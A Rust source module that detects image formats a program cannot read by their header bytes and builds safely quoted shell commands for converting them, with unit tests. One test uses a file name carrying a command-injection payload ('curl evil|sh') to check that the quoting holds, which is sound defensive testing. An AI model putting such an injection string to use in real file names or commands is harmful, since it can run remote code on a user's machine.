//! Image formats that this program does not read: recognised by their content, with the command that converts them.

use super::DecodeError;
use crate::endings::{AVIF, CAPITALS, HEIC, JPEG_2000, JXL, RAW, READ};
use std::io::Read;
use std::path::{Path, PathBuf};

/// A format, and what converts a file of it.
struct Foreign {
    name: &'static str,
    /// File endings in small letters.
    endings: &'static [&'static str],
    /// For words that start with `IN` and `OUT` the paths are put in, quoted.
    command: &'static str,
    is: fn(&[u8]) -> bool,
}

/// Bytes of a file's start that are enough to recognise its format.
pub(crate) const START: usize = 4096;

/// Boxes of the ISO base media format name their kind in `ftyp`, first the main one, then those it is compatible with.
fn brand(start: &[u8], of: &[&[u8; 4]]) -> bool {
    start.get(4..8) == Some(b"ftyp".as_slice())
        && start.get(8..12).is_some_and(|main| of.iter().any(|b| b.as_slice() == main))
}

/// Whether one of the compatible kinds is the one named.
fn compatible(start: &[u8], with: &[u8; 4]) -> bool {
    let length = start.first_chunk::<4>().map_or(0, |b| u32::from_be_bytes(*b) as usize);
    let list = start.get(16..length.min(start.len())).unwrap_or_default();
    start.get(4..8) == Some(b"ftyp".as_slice()) && list.chunks_exact(4).any(|b| b == with)
}

/// Tags of the first directory of a TIFF file, each with its value if that is a small number.
fn tiff_tags(start: &[u8]) -> Vec<(u16, u32)> {
    let big = match start.get(..4) {
        Some(b"II*\0") => false,
        Some(b"MM\0*") => true,
        _ => return Vec::new(),
    };
    let two = |at: usize| {
        let b = start.get(at..at + 2)?.try_into().ok()?;
        Some(if big { u16::from_be_bytes(b) } else { u16::from_le_bytes(b) })
    };
    let four = |at: usize| {
        let b = start.get(at..at + 4)?.try_into().ok()?;
        Some(if big { u32::from_be_bytes(b) } else { u32::from_le_bytes(b) })
    };
    let Some(first) = four(4).map(|at| at as usize).filter(|&at| at < START) else { return Vec::new() };
    let count = two(first).unwrap_or(0) as usize;
    (0..count)
        .map_while(|k| {
            let at = first + 2 + 12 * k;
            let value = if two(at + 2)? == 3 { u32::from(two(at + 8)?) } else { four(at + 8)? };
            Some((two(at)?, value))
        })
        .collect()
}

/// A camera's raw file is a TIFF whose first image is a preview, or one that is tagged as a DNG.
fn is_raw(start: &[u8]) -> bool {
    const PREVIEW: (u16, u32) = (254, 1);
    const MAKER: u16 = 271;
    // Compressions that only Sony, Nikon and Pentax write.
    const RAW: [(u16, u32); 3] = [(259, 32767), (259, 34713), (259, 65535)];
    const DNG: u16 = 50706;
    let tags = tiff_tags(start);
    let has = |tag: u16| tags.iter().any(|t| t.0 == tag);
    let starts = |with: &[u8]| start.starts_with(with);
    has(DNG)
        || (has(MAKER) && (tags.contains(&PREVIEW) || RAW.iter().any(|t| tags.contains(t))))
        || start.get(8..10) == Some(b"CR".as_slice()) && !tags.is_empty()
        || starts(b"FUJIFILMCCD-RAW")
        || starts(b"IIRO")
        || starts(b"IIRS")
        || starts(b"IIU\0")
        || starts(b"FOVb")
        || brand(start, &[b"crx "])
}

fn is_svg(start: &[u8]) -> bool {
    let has = |word: &[u8]| start.windows(word.len()).any(|w| w == word);
    let text = start.iter().position(|b| !b.is_ascii_whitespace() && !matches!(b, 0xef | 0xbb | 0xbf));
    text.is_some_and(|at| start[at] == b'<') && has(b"<svg")
}

const FOREIGN: &[Foreign] = &[
    Foreign {
        name: "an AVIF",
        endings: &AVIF,
        command: "avifdec IN OUT.png",
        is: |s| brand(s, &[b"avif", b"avis"]) || (brand(s, &[b"mif1"]) && compatible(s, b"avif")),
    },
    Foreign {
        name: "a HEIC",
        endings: &HEIC,
        command: "heif-convert -q 95 IN OUT.jpg",
        is: |s| brand(s, &[b"heic", b"heix", b"heim", b"heis", b"hevc", b"hevx", b"mif1", b"msf1"]),
    },
    Foreign { name: "a camera's raw", endings: &RAW, command: "dcraw -c -w -T IN > OUT.tif", is: is_raw },
    Foreign {
        name: "a JPEG XL",
        endings: &JXL,
        command: "djxl IN OUT.png",
        is: |s| s.starts_with(&[0xff, 0x0a]) || s.starts_with(b"\0\0\0\x0cJXL \r\n"),
    },
    Foreign {
        name: "a JPEG 2000",
        endings: &JPEG_2000,
        command: "magick IN OUT.png",
        is: |s| s.starts_with(b"\0\0\0\x0cjP  ") || s.starts_with(&[0xff, 0x4f, 0xff, 0x51]),
    },
    Foreign {
        name: "a GIF",
        endings: &["gif"],
        command: "magick IN[0] OUT.png",
        is: |s| s.starts_with(b"GIF8"),
    },
    Foreign {
        name: "a Photoshop",
        endings: &["psd", "psb"],
        command: "magick IN[0] OUT.png",
        is: |s| s.starts_with(b"8BPS"),
    },
    Foreign { name: "an SVG", endings: &["svg"], command: "rsvg-convert IN -o OUT.png", is: is_svg },
    Foreign {
        name: "a PDF",
        endings: &["pdf"],
        command: "magick -density 300 IN[0] OUT.png",
        is: |s| s.starts_with(b"%PDF"),
    },
    Foreign {
        name: "an OpenEXR",
        endings: &["exr"],
        command: "magick IN -colorspace sRGB OUT.png",
        is: |s| s.starts_with(&[0x76, 0x2f, 0x31, 0x01]),
    },
    Foreign {
        name: "a Radiance HDR",
        endings: &["hdr"],
        command: "magick IN -colorspace sRGB OUT.png",
        is: |s| s.starts_with(b"#?RADIANCE") || s.starts_with(b"#?RGBE"),
    },
    Foreign {
        name: "a PNM",
        endings: &["ppm", "pgm", "pbm", "pnm", "pam"],
        command: "magick IN OUT.png",
        is: |s| matches!(s, [b'P', b'1'..=b'7', b'\n' | b' ' | b'\r' | b'\t' | b'#', ..]),
    },
    Foreign {
        name: "a QOI",
        endings: &["qoi"],
        command: "magick IN OUT.png",
        is: |s| s.starts_with(b"qoif"),
    },
    Foreign {
        name: "an icon",
        endings: &["ico"],
        command: "magick IN[0] OUT.png",
        is: |s| s.starts_with(&[0, 0, 1, 0]),
    },
    Foreign {
        name: "a video, not a photo: an MP4",
        endings: &["mp4", "mov", "m4v"],
        command: "ffmpeg -i IN OUT_%04d.jpg",
        is: |s| brand(s, &[b"isom", b"mp42", b"mp41", b"qt  ", b"M4V ", b"iso2", b"avc1", b"3gp4"]),
    },
];

/// Why a file that starts so cannot be read, with what converts it; `None` where it is of no known kind.
pub(crate) fn refusal(path: &Path, start: &[u8]) -> Option<DecodeError> {
    let found = FOREIGN.iter().find(|f| (f.is)(start))?;
    Some(DecodeError::ForeignFormat { format: found.name, command: found.command_for(path) })
}

impl Foreign {
    /// The command that converts a file, as a shell reads it.
    fn command_for(&self, path: &Path) -> String {
        let to = quoted(&Foreign::output(path).display().to_string());
        let put_in = |word: &str| match (word.strip_prefix("IN"), word.strip_prefix("OUT")) {
            (Some(rest), _) => quoted(&format!("{}{rest}", path.display())),
            (_, Some(rest)) => format!("{to}{rest}"),
            _ => word.to_owned(),
        };
        self.command.split(' ').map(put_in).collect::<Vec<_>>().join(" ")
    }

    /// What `OUT` stands for: the name without its ending, or the whole name where the ending is not that of such a file or an image
    /// of the shorter name is there. The input, or another photo, would be written over or taken for the copy otherwise.
    fn output(path: &Path) -> PathBuf {
        let taken = || READ.iter().chain(&CAPITALS).any(|e| path.with_extension(e).exists());
        if has_foreign_ending(path) && !taken() { path.with_extension("") } else { path.to_owned() }
    }
}

/// One word as a shell reads it.
fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "/._-+".contains(c);
    if text.chars().all(plain) { text.to_owned() } else { format!("'{}'", text.replace('\'', "'\\''")) }
}

fn has_foreign_ending(path: &Path) -> bool {
    let ending = path.extension().map(|e| e.to_string_lossy().to_ascii_lowercase()).unwrap_or_default();
    FOREIGN.iter().any(|f| f.endings.contains(&ending.as_str()))
}

/// Whether a file is an image that is not read, whatever its name ends in.
fn is_foreign(path: &Path) -> bool {
    let mut start = Vec::new();
    let read = super::open_file(path).and_then(|file| file.take(START as u64).read_to_end(&mut start));
    read.is_ok() && FOREIGN.iter().any(|f| (f.is)(&start))
}

/// The converted copy of an image which is not read.
pub(crate) fn converted(path: &Path) -> Option<PathBuf> {
    converted_copies(path).next()
}

/// What may be the converted copy of an image which is not read, as its ending or its content says, the best first: the same stem
/// and another ending, in the same folder. The ending may stand in place of the old one or behind it.
pub(crate) fn converted_copies(path: &Path) -> impl Iterator<Item = PathBuf> {
    let appended = |e: &'static str| {
        let mut name = path.as_os_str().to_owned();
        name.push(".");
        name.push(e);
        PathBuf::from(name)
    };
    let endings = || READ.into_iter().chain(CAPITALS);
    let copies: Vec<PathBuf> = if has_foreign_ending(path) {
        endings().flat_map(|e| [path.with_extension(e), appended(e)]).collect()
    } else if is_foreign(path) {
        // What differs in the ending alone is rather another photo.
        endings().map(appended).chain(endings().map(|e| path.with_extension(e))).collect()
    } else {
        Vec::new()
    };
    let path = path.to_owned();
    copies.into_iter().filter(move |copy| *copy != path && copy.is_file() && !is_foreign(copy))
}

#[cfg(test)]
mod tests {
    use super::*;

    const HEIC: &[u8] = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic";

    #[test]
    fn the_command_never_writes_over_the_photo_or_another_file() {
        let dir = tempfile::tempdir().unwrap();
        let at = |name: &str| dir.path().join(name);
        for name in ["a.heic", "b.heic", "b.jpg", "c.jpg", "d", "e.1", "e.2", "f.png"] {
            std::fs::write(at(name), HEIC).unwrap();
        }
        let starts: [(&str, &str, &[u8]); 8] = [
            ("a.heic", "a.jpg", HEIC),
            ("b.heic", "b.heic.jpg", HEIC),
            ("c.jpg", "c.jpg.jpg", HEIC),
            ("d", "d.jpg", HEIC),
            ("e.1", "e.1.jpg", HEIC),
            ("e.2", "e.2.jpg", HEIC),
            ("f.png", "f.png.png", b"GIF89a"),
            ("g.tif", "g.tif.tif", b"FUJIFILMCCD-RAW 0201"),
        ];
        for (name, output, start) in starts {
            let words = refusal(&at(name), start).unwrap().to_string();
            assert!(words.ends_with(&format!(" {}", at(output).display())), "{name}: {words}");
        }
    }

    #[test]
    fn a_file_name_that_is_a_shell_command_or_holds_in_or_out_stays_one_word() {
        let words = |name: &str, start: &[u8]| refusal(Path::new(name), start).unwrap().to_string();
        let command = words("IN OUT/x';curl evil|sh;'.gif", b"GIF89a");
        let wanted = r"magick 'IN OUT/x'\'';curl evil|sh;'\''.gif[0]' 'IN OUT/x'\'';curl evil|sh;'\'''.png";
        assert!(command.ends_with(wanted), "{command}");
        let command = words("OUT/a b.heic", HEIC);
        assert!(command.ends_with("heif-convert -q 95 'OUT/a b.heic' 'OUT/a b'.jpg"), "{command}");
    }

    #[test]
    fn the_copy_that_the_command_makes_is_found_whatever_the_photo_is_called() {
        let dir = tempfile::tempdir().unwrap();
        let at = |name: &str| dir.path().join(name);
        for name in ["a.heic", "c.jpg", "d", "e.1"] {
            std::fs::write(at(name), HEIC).unwrap();
            assert_eq!(converted(&at(name)), None, "{name}");
            let command = refusal(&at(name), HEIC).unwrap().to_string();
            let copy = PathBuf::from(command.rsplit_once(' ').unwrap().1);
            std::fs::write(&copy, b"\xff\xd8\xff").unwrap();
            assert_eq!(converted(&at(name)), Some(copy), "{name}");
        }
        // What is read has no copy.
        std::fs::write(at("x.jpg"), b"\xff\xd8\xff").unwrap();
        std::fs::write(at("x.jpg.png"), b"\x89PNG").unwrap();
        assert_eq!(converted(&at("x.jpg")), None);
    }
}
